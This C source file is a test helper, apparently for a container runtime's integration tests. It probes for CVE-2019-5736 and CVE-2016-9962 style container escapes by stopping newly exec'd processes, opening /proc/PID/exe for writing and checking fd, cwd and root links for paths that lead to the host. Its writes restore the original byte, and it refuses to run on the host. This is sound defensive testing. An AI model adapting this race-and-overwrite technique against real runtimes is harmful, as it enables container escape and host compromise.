/*
 * proc-racer: an attacker inside a container, for the attack tests of tests-integration.
 *
 * It goes after what CVE-2019-5736 and CVE-2016-9962 went after: the runtime's own processes
 * while they are visible in the container's pid namespace (a process being exec'd into the
 * container, before its execve), their executable (/proc/PID/exe) and their fds, working
 * directory and root (/proc/PID/fd/N, cwd, root), which may lead to the host.
 *
 *   proc-racer once            reports every process it can see once, trying to open each
 *                              executable for writing, then exits
 *   proc-racer watch SECONDS   spins on the next pids: a new process is stopped at once
 *                              (SIGSTOP), inspected, continued, and inspected again each time it
 *                              is caught, until it is gone; at SIGTERM or after SECONDS it tries
 *                              to write to every executable it holds, then exits
 *
 * It refuses to run in the host's pid namespace. One line per finding on stdout, for the test
 * to read:
 *   watching from PID                 watch began; the pids from PID on are new
 *   stopped PID                       a new process was caught
 *   exe PID TARGET                    what /proc/PID/exe names (!ERRNO when refused)
 *   exe-write PID RESULT              open(/proc/PID/exe, O_WRONLY) and a write of its own first
 *                                     byte back: "rewrote" or !ERRNO
 *   held PID TARGET                   an O_PATH fd of /proc/PID/exe obtained, for later
 *   link PID NAME TARGET RESULT       /proc/PID/NAME (fd/N, cwd, root): what it names and an
 *                                     O_PATH open through it: !ERRNO, or "opened file", or for
 *                                     a directory "opened inside" or "opened outside" (outside
 *                                     this process's root: its ".." never leads to our "/")
 *   late-write PID TARGET RESULT      a held executable opened for writing through
 *                                     /proc/self/fd/N once its process is gone, and the write
 *   done                              the end
 *
 * A write only ever puts back the byte that was there: if a defence failed, the runtime is
 * shown writable without being damaged.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64
#define MAX_PIDS 4096

struct held {
  int fd;
  int pid;
  char target[256];
};

static struct held held[MAX_HELD];
static int held_count;
static char last_exe[MAX_PIDS][256];
static volatile sig_atomic_t stop_requested;

static const char *error_name(int error) {
  const char *name = strerrorname_np(error);
  return name != NULL ? name : "E?";
}

static void say(const char *format, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *format, ...) {
  char line[1024];
  va_list args;
  va_start(args, format);
  int length = vsnprintf(line, sizeof line - 1, format, args);
  va_end(args);
  if (length < 0) return;
  if (length > (int)sizeof line - 2) length = sizeof line - 2;
  line[length++] = '\n';
  for (int done = 0; done < length;) {
    ssize_t n = write(1, line + done, length - done);
    if (n <= 0) return;
    done += n;
  }
}

/* readlink into buffer, or "!ERRNO". */
static const char *link_target(const char *path, char *buffer, size_t size) {
  ssize_t n = readlink(path, buffer, size - 1);
  if (n < 0) {
    snprintf(buffer, size, "!%s", error_name(errno));
  } else {
    buffer[n] = 0;
    for (ssize_t i = 0; i < n; i++) {
      if (buffer[i] == ' ' || buffer[i] == '\n') buffer[i] = '_';
    }
  }
  return buffer;
}

/* Opens fd for writing through path and writes its own first byte back. */
static void rewrite_first_byte(const char *path, char *result, size_t size) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    snprintf(result, size, "!%s", error_name(errno));
    return;
  }
  char byte = 0;
  int reader = open(path, O_RDONLY | O_CLOEXEC);
  if (reader >= 0) {
    if (pread(reader, &byte, 1, 0) != 1) byte = 0;
    close(reader);
  }
  if (pwrite(fd, &byte, 1, 0) == 1) {
    snprintf(result, size, "rewrote");
  } else {
    snprintf(result, size, "!%s", error_name(errno));
  }
  close(fd);
}

/* 1 when the directory at fd is below this process's root, 0 when above or beside it. */
static int below_root(int fd) {
  struct stat root, here, parent;
  if (stat("/", &root) != 0) return 0;
  int current = dup(fd);
  for (int depth = 0; current >= 0 && depth < 4096; depth++) {
    if (fstat(current, &here) != 0) break;
    if (here.st_dev == root.st_dev && here.st_ino == root.st_ino) {
      close(current);
      return 1;
    }
    int up = openat(current, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
    close(current);
    current = up;
    if (up < 0 || fstat(up, &parent) != 0) break;
    if (parent.st_dev == here.st_dev && parent.st_ino == here.st_ino) break;
  }
  if (current >= 0) close(current);
  return 0;
}

static void inspect_link(int pid, const char *name) {
  char path[400], target[256];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  link_target(path, target, sizeof target);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    say("link %d %s %s !%s", pid, name, target, error_name(errno));
    return;
  }
  struct stat st;
  if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
    say("link %d %s %s opened %s", pid, name, target, below_root(fd) ? "inside" : "outside");
  } else {
    say("link %d %s %s opened file", pid, name, target);
  }
  close(fd);
}

static void inspect_fds(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *fds = opendir(path);
  if (fds == NULL) {
    say("link %d fd/ - !%s", pid, error_name(errno));
    return;
  }
  for (struct dirent *entry; (entry = readdir(fds)) != NULL;) {
    if (entry->d_name[0] == '.') continue;
    if (pid == getpid() && atoi(entry->d_name) == dirfd(fds)) continue;
    char name[300];
    snprintf(name, sizeof name, "fd/%s", entry->d_name);
    inspect_link(pid, name);
  }
  closedir(fds);
}

/* Everything /proc shows of pid; the executable is tried for writing and held. */
static void inspect(int pid, int always) {
  char path[64], target[256], result[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  link_target(path, target, sizeof target);
  char *last = pid < MAX_PIDS ? last_exe[pid] : NULL;
  if (!always && last != NULL && strncmp(last, target, sizeof last_exe[0] - 1) == 0) return;
  if (last != NULL) snprintf(last, sizeof last_exe[0], "%s", target);
  say("exe %d %s", pid, target);
  rewrite_first_byte(path, result, sizeof result);
  say("exe-write %d %s", pid, result);
  if (held_count < MAX_HELD) {
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd >= 0) {
      held[held_count].fd = fd;
      held[held_count].pid = pid;
      snprintf(held[held_count].target, sizeof held[0].target, "%s", target);
      held_count++;
      say("held %d %s", pid, target);
    }
  }
  inspect_link(pid, "cwd");
  inspect_link(pid, "root");
  inspect_fds(pid);
}

static int is_pid(const char *name) {
  if (*name == 0) return 0;
  for (const char *c = name; *c; c++) {
    if (*c < '0' || *c > '9') return 0;
  }
  return 1;
}

static int highest_pid(void) {
  int highest = 0;
  DIR *proc = opendir("/proc");
  if (proc == NULL) return 0;
  for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
    if (is_pid(entry->d_name) && atoi(entry->d_name) > highest) highest = atoi(entry->d_name);
  }
  closedir(proc);
  return highest;
}

static void once(void) {
  DIR *proc = opendir("/proc");
  if (proc == NULL) {
    say("proc !%s", error_name(errno));
    return;
  }
  for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
    if (is_pid(entry->d_name)) inspect(atoi(entry->d_name), 1);
  }
  closedir(proc);
  inspect_link(getpid(), "exe");
}

/*
 * Stops pid, inspects it, lets it run a few microseconds and stops it again, inspecting it
 * again whenever its executable changed, until it is gone (a zombie's exe is ENOENT).
 */
static void chase(int pid) {
  say("stopped %d", pid);
  char path[64], target[256];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  for (int round = 0; round < 200000; round++) {
    inspect(pid, 0);
    if (strcmp(link_target(path, target, sizeof target), "!ENOENT") == 0) break;
    kill(pid, SIGCONT);
    for (int spin = 0; spin < 20; spin++) {
      kill(pid, 0);
    }
    if (kill(pid, SIGSTOP) != 0) break;
  }
  kill(pid, SIGCONT);
}

static void on_term(int signal) {
  (void)signal;
  stop_requested = 1;
}

/* The last pid the kernel gave out in this pid namespace, or 0. */
static int last_pid(void) {
  char text[16] = {0};
  int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t n = read(fd, text, sizeof text - 1);
  close(fd);
  return n > 0 ? atoi(text) : 0;
}

static void watch(int seconds) {
  struct sigaction action;
  memset(&action, 0, sizeof action);
  action.sa_handler = on_term;
  sigaction(SIGTERM, &action, NULL);
  time_t deadline = time(NULL) + seconds;
  int next = highest_pid() + 1;
  say("watching from %d", next);
  for (long round = 0; !stop_requested && time(NULL) < deadline; round++) {
    if (kill(next, SIGSTOP) == 0) {
      chase(next);
      next++;
    } else if (round % 64 == 0) {
      /* Pids given out while this process was not running: catch those still there, and wait
         on the last one, which may not be visible yet. */
      for (int last = last_pid(); next < last; next++) {
        if (kill(next, SIGSTOP) == 0) chase(next);
      }
    }
  }
  for (int i = 0; i < held_count; i++) {
    char path[64], result[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
    rewrite_first_byte(path, result, sizeof result);
    say("late-write %d %s %s", held[i].pid, held[i].target, result);
  }
  say("done");
}

/* In the host's pid namespace, pid 2 is the kernel's kthreadd: this must never run there. */
static int inside_a_container(void) {
  char comm[32] = {0};
  int fd = open("/proc/2/comm", O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 1;
  ssize_t n = read(fd, comm, sizeof comm - 1);
  close(fd);
  return n <= 0 || strncmp(comm, "kthreadd", 8) != 0;
}

int main(int argc, char **argv) {
  if (!inside_a_container()) {
    fprintf(stderr, "proc-racer: refusing to run in the host's pid namespace\n");
    return 3;
  }
  if (argc == 2 && strcmp(argv[1], "once") == 0) {
    once();
    say("done");
    return 0;
  }
  if (argc == 3 && strcmp(argv[1], "watch") == 0) {
    watch(atoi(argv[2]));
    return 0;
  }
  fprintf(stderr, "usage: proc-racer once | proc-racer watch SECONDS\n");
  return 2;
}
